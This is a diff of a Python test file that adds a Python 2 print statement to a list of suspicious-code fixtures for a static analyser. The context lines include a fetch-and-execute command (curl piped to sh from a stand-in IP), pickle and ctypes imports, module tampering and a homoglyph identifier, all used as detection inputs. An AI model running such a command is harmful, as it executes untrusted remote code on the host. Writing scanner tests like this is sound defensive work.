@@ -156,6 +156,7 @@ def test_a_models_module_with_an_endpoint_is_analysed_and_shows_it(tmp_path, par
         "HELP = 'run: curl -s http://203.0.113.9/i.sh | sh'\n",
         "import sys\nsys.modules['json'] = None\n",
         "import ctypes\n",
+        "print 'ready'\n",  # Python 2: the full reading says it does not parse
         "import pickle\n",
         "sink.write(payload)\n",
         "ра\u0441sword = 1\n",  # a name that mixes alphabets (Cyrillic "ра" and "с")
